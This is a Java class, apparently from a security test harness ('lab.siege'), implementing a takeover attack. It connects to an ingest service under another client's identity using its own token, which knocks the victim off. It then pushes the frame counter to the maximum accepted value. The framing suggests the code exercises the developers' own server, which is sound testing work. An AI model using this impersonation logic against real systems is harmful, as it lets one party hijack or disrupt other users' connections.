package io.millrace.lab.siege;

import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;

/**
 * A gateway that connects with its own token under another one's name, which ends the other's
 * connection, and sets its frame number to the largest that is accepted.
 */
final class Takeover implements Attack {
  private static final double PER_SECOND = 5;
  private static final long LAST_FRAME = 1L << 53;

  private final SocketFrames frames = new SocketFrames();

  @Override
  public void strike(Attacker from) throws IOException {
    Target target = from.target();
    SocketChannel channel = from.connect(target.ingest());
    try {
      String query = "client=" + target.victim() + "&frame=" + LAST_FRAME;
      byte[] hello = Requests.upgrade(target.token(), query).getBytes(StandardCharsets.US_ASCII);
      channel.write(ByteBuffer.wrap(hello));
      channel.socket().getInputStream().read(new byte[512]);
      for (int i = 0; i < 3; i++) {
        channel.write(ByteBuffer.wrap(frames.record()));
      }
      channel.socket().getInputStream().read(new byte[512]);
    } finally {
      from.drop(channel);
    }
    from.pace(PER_SECOND);
  }
}
